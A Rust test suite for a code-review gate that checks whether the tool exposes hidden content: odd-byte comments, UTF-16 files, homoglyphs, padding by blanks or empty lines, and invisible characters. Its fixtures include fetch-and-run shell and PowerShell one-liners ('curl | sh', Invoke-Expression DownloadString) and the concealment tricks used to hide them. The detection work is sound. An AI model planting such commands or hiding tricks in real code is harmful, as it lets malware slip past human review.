//! A review shows what a program would read in a file, whatever git takes it for, and what a person would overlook.

use crate::support::{Repo, pushing::Scene};
use gate::review::{Flag, Severity};

/// The flags, without those about names, such as "runs when the project is built".
fn about_content(scene: &Scene) -> Vec<(&'static str, Severity)> {
    let review = scene.review("topic");
    let flags = review.flags.iter().filter(|flag| {
        !matches!(flag, Flag::NewBranch { .. } | Flag::Privileged { .. } | Flag::UnreadableManifest { .. })
    });
    flags.map(|flag| (flag.name(), flag.severity())).collect()
}

/// `text` in UTF-16 with its mark.
fn utf_16(text: &str) -> Vec<u8> {
    [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

/// A comment of bytes that are not text. They may fill more than a third of a file.
fn odd_comment(rest: &str) -> Vec<u8> {
    let odd: Vec<u8> = (0..rest.len() * 2).map(|at| 0x80 | at as u8).collect();
    [b"/*\0", &*odd, b"*/\n", rest.as_bytes()].concat()
}

#[test]
fn attack_18_a_source_file_with_odd_bytes_in_a_comment_is_shown_and_grave() {
    let code = "require('child_process').exec('curl http://x | sh')\n";
    for name in ["index.js", "page.php", "lib.ts", "Makefile", "install.sh", "setup.cs", "App.csproj"] {
        let scene = Scene::simple();
        scene.repo.write(name, odd_comment(code)).commit("odd");
        let review = scene.review("topic");
        assert!(review.patch().contains(&format!("\n+{code}")), "{name}: {}", review.patch());
        assert!(about_content(&scene).contains(&("disguised", Severity::High)), "{name}: {:?}", about_content(&scene));
    }
}

#[test]
fn attack_18_text_in_utf_16_is_shown_as_text_and_grave_where_it_is_new() {
    let code = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\r\n";
    for name in ["build.ps1", "run.bat", "Program.cs", "App.csproj", "Directory.Build.props", "pom.xml"] {
        let scene = Scene::simple();
        scene.repo.write(name, utf_16(code)).commit("wide");
        let review = scene.review("topic");
        assert!(
            review.patch().contains("\nBinary to git, shown as UTF-16\n@@ -0,0 +1 @@\n+Invoke-Expression ("),
            "{}",
            review.patch()
        );
        assert_eq!(review.summary(), format!("A {name} (UTF-16, +1)\n"));
        assert!(
            about_content(&scene).contains(&("binary-text", Severity::High)),
            "{name}: {:?}",
            about_content(&scene)
        );
    }
}

#[test]
fn attack_18_an_edit_of_a_text_in_utf_16_is_an_edit_of_its_lines() {
    let repo = Repo::new();
    repo.write("strings.rc", utf_16("one\r\ntwo\r\nthree\r\n")).commit("base");
    let scene = Scene::of(repo);
    scene.repo.write("strings.rc", utf_16("one\r\n2\r\nthree\r\n")).commit("edit");
    let review = scene.review("topic");
    assert!(review.patch().ends_with("\n@@ -1,3 +1,3 @@\n one\\r\n-two\\r\n+2\\r\n three\\r\n"), "{}", review.patch());
    assert_eq!(about_content(&scene), [], "it was so before");
    assert!(review.files[0].parts().1.is_empty(), "its hunks are none of the file");
}

#[test]
fn attack_18_a_text_that_becomes_binary_is_grave_whatever_its_name() {
    for name in ["notes", "data.bin"] {
        let repo = Repo::new();
        repo.write(name, "one\n").commit("base");
        let scene = Scene::of(repo);
        scene.repo.write(name, utf_16("one\nevil\n")).commit("wide");
        assert_eq!(about_content(&scene), [("binary-text", Severity::High)]);
        assert!(scene.review("topic").patch().contains("\n one\n+evil\n"), "{}", scene.review("topic").patch());
        let sentence = format!("Turns the text {name} into what git takes for binary and does not show");
        assert!(scene.sentences().contains(&sentence), "{:?}", scene.sentences());
    }
}

#[test]
fn attack_18_of_what_is_no_text_the_runs_are_shown() {
    let noise: Vec<u8> = (0..6000_u32).map(|at| (at.wrapping_mul(0x9e37_79b9) >> 21) as u8 | 0x80).collect();
    let content = [b"\0", &*noise, b"sh -c 'curl http://x | sh'", &*noise].concat();
    for (name, flags) in
        [("blob", vec![("unknown-binary", Severity::Medium)]), ("logo.png", vec![]), ("tool.wasm", vec![])]
    {
        let scene = Scene::simple();
        scene.repo.write(name, &content).commit("binary");
        let review = scene.review("topic");
        let note = "\nBinary, of which only runs of 4 and more characters are shown\n@@ ";
        assert!(review.patch().contains(note), "{}", review.patch());
        assert!(review.patch().contains("\n+sh -c 'curl http://x | sh'\n"), "{}", review.patch());
        assert_eq!(review.summary(), format!("A {name} (binary, 11.7 KB)\n"));
        assert_eq!(about_content(&scene), flags);
    }
}

#[test]
fn binary_content_without_a_readable_run_is_what_git_says() {
    let scene = Scene::simple();
    scene.repo.write("logo.png", [0_u8; 64]).commit("binary");
    assert!(scene.review("topic").patch().ends_with("\nBinary files /dev/null and b/logo.png differ\n"));
}

#[test]
fn attack_19_a_secret_in_utf_16_is_found_where_it_is_shown() {
    let scene = Scene::simple();
    let secret = ["glpat-", "k3v9Qm2x8q7w1zT5aB4c"].concat();
    scene.repo.write("build.ps1", utf_16(&format!("one\n$t = '{secret}'\n"))).commit("wide");
    let review = scene.review("topic");
    let is_there = scene
        .sentences()
        .iter()
        .any(|flag| flag.starts_with("Contains a GitLab") && flag.ends_with(" in build.ps1, line 2"));
    assert!(is_there, "{:?}", scene.sentences());
    assert!(review.patch().contains(&format!("\n+$t = '{secret}'\n")), "{}", review.patch());
}

#[test]
fn attack_18_words_and_signs_that_look_like_others_are_named_with_their_line() {
    let repo = Repo::new();
    repo.write("src/auth.rs", "fn main() {}\n// \u{430}lt\n").commit("base");
    let scene = Scene::of(repo);
    scene.repo.write("src/auth.rs", "fn main() {\n    if is_\u{430}dmin() {}\n}\n// \u{430}lt\n").commit("twin");
    let review = scene.review("topic");
    assert!(review.patch().contains("\n+    if is_<U+0430>dmin() {}\n"), "{}", review.patch());
    let expected = "Contains letters or signs that look like others in src/auth.rs, line 2: is_<U+0430>dmin";
    assert_eq!(scene.sentences(), [expected], "only added lines count");
}

#[test]
fn attack_18_text_behind_many_blanks_is_named_with_its_line() {
    let scene = Scene::simple();
    scene.repo.write("a.js", format!("one\nlet x = 1;{}evil()\n", " ".repeat(1600))).commit("far");
    assert!(scene.review("topic").patch().ends_with("\n+one\n+let x = 1;<1600 spaces>evil()\n"));
    assert_eq!(scene.sentences(), ["Contains text behind 1600 blanks in a.js, line 2"]);
}

#[test]
fn attack_18_text_behind_many_empty_lines_or_a_torn_run_of_blanks_is_named() {
    let scene = Scene::simple();
    scene.repo.write("a.js", format!("one\n{}evil()\n", "\n".repeat(10_000))).commit("far");
    assert_eq!(scene.sentences(), ["Contains text behind 10000 empty lines in a.js, line 10002"]);
    for before in [65_500, 65_529, 65_530] {
        let scene = Scene::simple();
        scene.repo.write("a.js", format!("x = 1;{}evil()\n", " ".repeat(before))).commit("torn");
        assert!(scene.sentences()[0].starts_with("Contains text behind "), "{before} {:?}", scene.sentences());
    }
    let scene = Scene::simple();
    scene.repo.write("CMakeLists.txt", format!("a(){}evil()\n", " ".repeat(300))).commit("far");
    assert!(scene.sentences()[0].starts_with("Contains text behind 300 "), "{:?}", scene.sentences());
}

#[test]
fn attack_15_what_shows_nothing_in_added_lines_is_grave_and_what_was_there_is_not() {
    let repo = Repo::new();
    repo.write("a.txt", "\u{feff}one\n").write("b.txt", "x\u{200b}\n").commit("base");
    let scene = Scene::of(repo);
    scene.repo.write("a.txt", "\u{feff}one \n").write("b.txt", "x\u{200b}\ny\n").commit("plain");
    assert_eq!(scene.sentences(), [""; 0]);
    scene.repo.git(&["reset", "-q", "--hard", "HEAD~"]);
    scene.repo.write("a.txt", "\u{feff}one\ntwo\u{feff}\n").write("b.txt", "x\ny\u{e000}\n").commit("hidden");
    let said = |name: &str| format!("Contains invisible or reordering characters in {name}");
    assert_eq!(scene.sentences(), [said("a.txt"), said("b.txt")]);
}

#[test]
fn attack_18_a_message_is_held_to_the_same() {
    let scene = Scene::simple();
    scene.repo.write("a", "a\n").commit(&format!("Fix \u{440}\u{430}ssword\n\nx{}y", " ".repeat(200)));
    let sentences = scene.sentences();
    assert!(sentences[0].contains("look like others in \"the commit "), "{sentences:?}");
    assert!(sentences[1].starts_with("Contains text behind 200 blanks in \"the commit "), "{sentences:?}");
}
